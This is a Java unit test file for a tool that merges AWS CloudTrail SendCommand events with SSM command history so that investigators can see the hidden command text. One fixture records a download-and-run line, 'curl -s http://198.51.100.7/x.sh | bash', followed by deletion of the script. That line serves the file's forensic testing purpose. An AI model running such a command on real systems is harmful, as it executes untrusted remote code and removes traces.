package dev.cadet.parsers;

import dev.cadet.model.CloudEvent;
import dev.cadet.model.Command;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** SSM command history fills in what CloudTrail hides about a SendCommand, joined on the command id. */
class CommandHistoryTest {

    private static final String COMMAND_ID = "4f2d1c3b-5a6e-4b7c-8d9e-0f1a2b3c4d5e";

    private final LogReader reader = LogReader.builder().badRecords(BadRecordPolicy.FAIL).build();

    @Test
    void sendCommandPlusItsHistoryIsOneEventWithTheCommandText() throws IOException {
        Reads.Outcome cloudTrail = Reads.read(reader, "trail.json", GoldenTest.resource("ssm/send-command.json"));
        Reads.Outcome history = Reads.read(reader, "commands.json", GoldenTest.resource("ssm/list-commands.json"));

        CloudEvent hidden = cloudTrail.only();
        assertThat(hidden.command().lines()).isEmpty();
        assertThat(history.events()).isEmpty();
        assertThat(history.report().skipped()).isEqualTo(2);

        CommandHistory commands = CommandHistory.of(history.result().history());
        List<CloudEvent> joined = new ArrayList<>(cloudTrail.events());
        joined.replaceAll(commands::attach);

        assertThat(joined).singleElement().satisfies(e -> {
            assertThat(e.eventId()).isEqualTo(hidden.eventId());
            assertThat(e.command()).isEqualTo(new Command("AWS-RunShellScript",
                    List.of("id", "curl -s http://198.51.100.7/x.sh | bash", "rm -f /tmp/x.sh"), COMMAND_ID, null));
            assertThat(e.withCommand(hidden.command())).isEqualTo(hidden);
        });
    }

    @Test
    void listCommandsGivesTheTextWhateverTheOrderOfTheFiles() throws IOException {
        List<Command> entries = new ArrayList<>(Reads.read(reader, "invocations.json",
                GoldenTest.resource("ssm/list-command-invocations.json")).result().history());
        entries.addAll(Reads.read(reader, "commands.json", GoldenTest.resource("ssm/list-commands.json"))
                .result().history());

        CommandHistory commands = CommandHistory.of(entries);

        assertThat(commands.size()).isEqualTo(2);
        // The invocations came first, but the command's own entry (with its text) decides where they disagree.
        assertThat(commands.find("9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b")).hasValue(new Command("AWS-RunRemoteScript",
                List.of("inventory.sh --all"), "9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b", "s3://ops-command-output/inventory"));
        assertThat(commands.find(COMMAND_ID).orElseThrow().lines()).hasSize(3);
        assertThat(commands.find("no-such-command")).isEmpty();
        assertThat(commands.find(null)).isEmpty();
    }

    @Test
    void theOrderOfTheEntriesDoesNotMatter() {
        Command text = new Command("AWS-RunShellScript", List.of("whoami"), "c-1", null);
        Command invocation = new Command("AWS-RunShellScript", List.of(), "c-1", "s3://out/c-1");
        Command other = new Command("Custom-Doc", List.of("id"), "c-1", null);

        Command merged = CommandHistory.of(List.of(text, invocation, other)).find("c-1").orElseThrow();

        assertThat(CommandHistory.of(List.of(other, invocation, text)).find("c-1")).hasValue(merged);
        assertThat(CommandHistory.of(List.of(invocation, other, text)).find("c-1")).hasValue(merged);
        assertThat(merged.outputLocation()).isEqualTo("s3://out/c-1");
    }

    @Test
    void eventsTheHistoryDoesNotKnowStayAsTheyAre() throws IOException {
        CloudEvent hidden = Reads.read(reader, "trail.json", GoldenTest.resource("ssm/send-command.json")).only();
        CloudEvent login = Reads.read(reader, "login.json", Reads.utf8(Reads.record("signin.amazonaws.com",
                "ConsoleLogin", ""))).only();
        CommandHistory other = CommandHistory.of(List.of(new Command("AWS-RunShellScript", List.of("uptime"),
                "another-command", null)));

        assertThat(other.attach(hidden)).isSameAs(hidden);
        assertThat(other.attach(login)).isSameAs(login);
        assertThat(CommandHistory.empty().attach(hidden)).isSameAs(hidden);
        assertThat(CommandHistory.of(List.of(new Command(null, List.of("x"), null, null))).size()).isZero();
    }

    @Test
    void whatTheLogSaysIsKept() {
        Command logged = new Command("Custom-Doc", List.of("echo logged"), "c-1", "s3://logged");
        CommandHistory history = CommandHistory.of(List.of(new Command("AWS-RunShellScript", List.of("echo history"),
                "c-1", "s3://history")));
        CloudEvent event = Reads.read("x.json", Reads.record("ssm.amazonaws.com", "SendCommand", "")).only()
                .withCommand(logged);

        assertThat(history.attach(event)).isSameAs(event);
    }
}
